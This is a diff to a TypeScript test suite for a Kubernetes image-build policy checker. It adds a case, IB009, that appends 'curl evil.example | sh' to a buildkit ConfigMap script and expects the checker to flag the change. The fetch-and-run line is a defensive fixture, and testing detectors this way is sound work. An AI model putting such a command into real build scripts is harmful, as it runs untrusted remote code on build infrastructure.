@@ -60,6 +60,7 @@ const ENGINE_AGNOSTIC: Record<string, (ms: Manifest[]) => void> = {
   IB002: BREAKERS.IB002,
   IB004: BREAKERS.IB004,
   IB005: BREAKERS.IB005,
+  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap')!.data['buildkit.sh'] += 'curl evil.example | sh\n'; },
 };
 
 describe('policy', () => {
@@ -76,7 +77,7 @@ describe('policy', () => {
     (BUILDKIT_BREAKERS[id] ?? ENGINE_AGNOSTIC[id])(manifests);
     const violations = checkPolicy(manifests);
     expect(violations.map((v) => v.rule)).toEqual([id]);
-    expect(violations[0].object).toBe('Job/build-container-training-main');
+    expect(['Job/build-container-training-main', 'ConfigMap/image-builder-buildkit-script']).toContain(violations[0].object);
   });
 
   test('IB011: the AppArmor annotation on the docker builder is refused too', () => {
